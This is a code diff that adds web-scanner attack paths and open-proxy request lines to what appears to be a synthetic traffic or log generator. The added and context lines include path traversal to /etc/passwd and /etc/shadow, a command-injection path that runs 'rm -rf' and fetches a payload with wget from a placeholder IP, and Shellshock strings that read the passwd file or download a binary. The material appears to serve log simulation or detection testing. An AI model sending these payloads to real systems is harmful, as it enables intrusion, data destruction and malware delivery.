@@ -108,6 +108,12 @@ ATTACK_PATHS = (
     "/cgi-bin/luci/;stok=/locale", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
     "/manager/html", "/xmlrpc.php", "/wp-login.php", "/admin/config.php", "/etc/passwd",
     "/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "/api/v1/pods", "/containers/json", "/setup.cgi",
+    "//admin/pma/scripts/setup.php", "/pma/scripts/setup.php", "/myadmin/scripts/setup.php",
+    "/cgi-bin/test-cgi", "/cgi-bin/php5", "/w00tw00t.at.ISC.SANS.DFind:)", "/muieblackcat",
+    "/azenv.php", "/proxy.php", "/wp-content/plugins/revslider/temp/update_extract/shell.php",
+    "/cgi-bin/tools/tools.pl", "/webdav/", "/sql/phpmanager/", "/phpMyAdmin-2.11.4/scripts/setup.php",
+    "/.well-known/../../etc/passwd", "/wp-includes/wlwmanifest.xml", "/_ignition/execute-solution",
+    "/cgi-bin/mainfunction.cgi", "/GponForm/diag_Form?images/", "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.4/jaws",
 )
 SHELLSHOCK = ("() { :; }; /bin/bash -c \"cat /etc/passwd\"", "() { :;}; echo; /usr/bin/id",
               "() { ignored; }; /bin/sh -c 'wget http://203.0.113.99/b -O /tmp/b'")
@@ -687,6 +693,11 @@ class Values:
 
     def last_request_path(self) -> str:
         return self._last_path
+
+    def proxy_probe(self) -> str:
+        """A request line abusing the server as an open proxy."""
+        return self.pick((f"CONNECT {self.hostname()}:443 HTTP/1.1", f"CONNECT {self.ipv4()}:{self.service_port()} HTTP/1.1",
+                          f"GET http://{self.hostname()}/ HTTP/1.1", f"GET http://{self.ipv4()}:{self.port()}/azenv.php HTTP/1.1"))
 
     def benign_path(self) -> str:
         return self.pick(("/favicon.ico", "/robots.txt", "/apple-touch-icon.png", "/images/logo.png",
